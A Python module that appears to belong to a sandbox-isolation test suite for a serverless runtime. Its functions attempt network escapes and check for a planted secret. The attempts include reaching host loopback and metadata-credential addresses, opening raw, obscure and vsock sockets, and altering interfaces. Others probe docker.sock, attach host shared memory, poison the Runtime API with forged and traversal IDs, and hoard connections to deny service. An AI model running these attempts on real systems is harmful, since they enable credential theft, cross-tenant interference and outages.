"""Attacks by network and sockets: the host's loopback, its other addresses, the metadata address, neighbours, raw packets."""

import errno
import fcntl
import os
import socket
import struct
import time

from attacks.kernel import outcome, syscall, tried

#: How long a greeting is waited for: outside, where it must come, as long as a busy machine may take.
CONNECT_S = 0.7 if "AWS_LAMBDA_RUNTIME_API" in os.environ else 5
AF_VSOCK, AF_ALG, AF_RDS, AF_TIPC, AF_XDP, AF_KEY, AF_CAN, AF_BLUETOOTH = 40, 38, 21, 30, 44, 15, 29, 31
SIOCSIFFLAGS, SIOCSIFADDR = 0x8914, 0x8916


def greeting(address, secret, family=socket.AF_INET):
    """Whether something at `address` accepts and greets with the secret."""
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(CONNECT_S)
        connection.connect(address)
        connection.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return secret.encode() in connection.recv(4096)


def gateways():
    """The addresses that this side's routing table calls gateways: mostly the host."""
    with open("/proc/net/route", encoding="ascii") as file:
        rows = [line.split() for line in file.readlines()[1:]]
    return {socket.inet_ntoa(struct.pack("<I", int(row[2], 16))) for row in rows if int(row[2], 16)}


def reach_host_loopback(target):
    """Connects to a service that listens on the host's loopback alone."""
    attempts = {name: lambda name=name: greeting((name, target["loopback_port"]), target["secret"])
                for name in ("127.0.0.1", "localhost", "0.0.0.0", "127.1.2.3")}
    attempts["::1"] = lambda: greeting(("::1", target["loopback_port"]), target["secret"], socket.AF_INET6)
    return tried(attempts, isolated=False)


def reach_host_addresses(target):
    """Connects to a service on every address of the host, and on its own gateways."""
    addresses = {*target["host_addresses"], *gateways()}
    return tried({address: lambda address=address: greeting((address, target["open_port"]), target["secret"])
                  for address in addresses}, isolated=False)


def reach_metadata(target):
    """Asks the cloud's metadata and credentials addresses."""
    addresses = ("169.254.169.254", "169.254.170.2", "169.254.170.23")
    return tried({address: lambda address=address: greeting((address, 80), target["secret"]) for address in addresses},
                 isolated=False)


def reach_neighbour(target):
    """Connects to a port on which a neighbour's environment listens."""
    addresses = {"127.0.0.1", *target["neighbour_addresses"], *gateways()}
    return tried({address: lambda address=address: greeting((address, target["neighbour_port"]), target["secret"])
                  for address in addresses}, isolated=False)


def serve_on_host_port(target):
    """Listens on all addresses; succeeds if the host's world can connect."""
    with socket.socket() as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind(("0.0.0.0", target["free_port"]))
        listener.listen()
        listener.settimeout(target["listen_s"])
        try:
            connection, peer = listener.accept()
        except TimeoutError:
            return outcome(False, "nobody could connect")
        with connection:
            connection.sendall(target["secret"].encode())
        return outcome(True, f"served {peer}")


def open_raw_sockets(target):
    """Opens sockets that see or forge packets."""
    kinds = {"raw ICMP": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
             "raw TCP": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP),
             "raw IPv6": (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),
             "packet": (socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)),
             "cooked packet": (socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))}
    return tried({label: lambda kind=kind: socket.socket(*kind).fileno() for label, kind in kinds.items()})


def open_strange_sockets(target):
    """Opens sockets of families that a function never needs and whose code is seldom looked at."""
    families = {"alg": AF_ALG, "rds": AF_RDS, "tipc": AF_TIPC, "xdp": AF_XDP, "key": AF_KEY, "can": AF_CAN,
                "bluetooth": AF_BLUETOOTH, "x25": 9, "llc": 26, "nfc": 39, "kcm": 41, "smc": 43}
    return tried({label: lambda family=family: open_socket(family) for label, family in families.items()})


def open_vsock(target):
    """Opens a socket to the hypervisor, which network namespaces do not divide."""
    return tried({"vsock": lambda: open_socket(AF_VSOCK)})


def open_socket(family):
    """A descriptor of any type of socket that this family gives."""
    problem = None
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_RAW):
        try:
            return socket.socket(family, kind, 0).fileno()
        except OSError as refused:
            problem = refused
    raise problem


def reconfigure_network(target):
    """Changes interfaces, addresses and routes."""
    def set_flags():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as handle:
            fcntl.ioctl(handle, SIOCSIFFLAGS, struct.pack("16sh14x", b"lo", 0x1 | 0x8))
            return "changed"

    def set_address():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as handle:
            fcntl.ioctl(handle, SIOCSIFADDR, struct.pack("16sHH4s8x", b"lo:7", socket.AF_INET, 0, b"\x0a\x63\x63\x63"))
            return "changed"

    def add_link():
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as netlink:
            body = struct.pack("<BxHiII", 0, 1, 0, 0, 0)
            info = struct.pack("<HH", 8, 1) + b"veth"  # IFLA_INFO_KIND
            body += struct.pack("<HH", 4 + len(info), 18 | 0x8000) + info  # IFLA_LINKINFO
            netlink.send(struct.pack("<IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)  # RTM_NEWLINK, create, ack
            netlink.settimeout(1)
            code = struct.unpack_from("<i", netlink.recv(4096), 16)[0]
            if code:
                raise OSError(-code, os.strerror(-code))
            return "added"

    return tried({"flags": set_flags, "address": set_address, "link": add_link})


def reach_host_sockets(target):
    """Connects to Unix sockets of the host, by path and by abstract name."""
    paths = [target["unix_path"], target["unix_path"].replace("/run/", "/var/run/"), "\0" + target["abstract_name"]]
    attempts = {repr(path): lambda path=path: greeting(path, target["secret"], socket.AF_UNIX) for path in paths}
    for path in ("/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"):
        attempts[path] = lambda path=path: os.stat(path).st_ino
    return tried(attempts, isolated=False)


def read_host_shared_memory(target):
    """Attaches the host's System V shared memory by its key."""
    import ctypes

    from attacks.kernel import LIBC

    def attempt():
        identity = syscall("shmget", target["shm_key"], 0, 0)
        LIBC.shmat.restype = ctypes.c_void_p
        place = LIBC.shmat(identity, None, 0o10000)  # SHM_RDONLY
        if place in (None, ctypes.c_void_p(-1).value):
            raise OSError(errno.EACCES, "shmat")
        return target["secret"].encode() in ctypes.string_at(place, 256)

    return tried({"shmat": attempt})


def poison_runtime_api(target):
    """Answers invocations that are not its own, and reports errors for them, by the Runtime API."""
    host, port = (target.get("runtime_api") or os.environ["AWS_LAMBDA_RUNTIME_API"]).split(":")

    def post(path, body=b"{}"):
        with socket.create_connection((host, int(port)), CONNECT_S) as connection:
            connection.sendall(f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
            status = int(connection.recv(4096).split()[1])
            return status if status < 300 else None

    attempts = {}
    for identity in ("00000000-0000-4000-8000-000000000000", "..%2F..%2Fx", target["neighbour_request"]):
        for what in ("response", "error"):
            path = f"/2018-06-01/runtime/invocation/{identity}/{what}"
            attempts[path] = lambda path=path: post(path)
    attempts["host"] = lambda: post("/2015-03-31/functions/neighbour/invocations")
    return tried(attempts, isolated=False)


def hoard_connections(target):
    """Holds hundreds of half-sent requests open at the platform's endpoint; the host looks whether it still answers."""
    endpoint = target.get("endpoint") or os.environ["AWS_ENDPOINT_URL"]
    host, port = endpoint.split("//")[1].rstrip("/").split(":")
    held = []
    try:
        while len(held) < target["connections"]:
            held.append(socket.create_connection((host, int(port)), 0.5))
            held[-1].sendall(b"POST /2015-03-31/functions HTTP/1.1\r\nContent-Length: 1000000\r\nHost:")
    except OSError:
        pass
    time.sleep(target["hold_s"])
    return outcome(False, f"held {len(held)} connections; the host looks on")
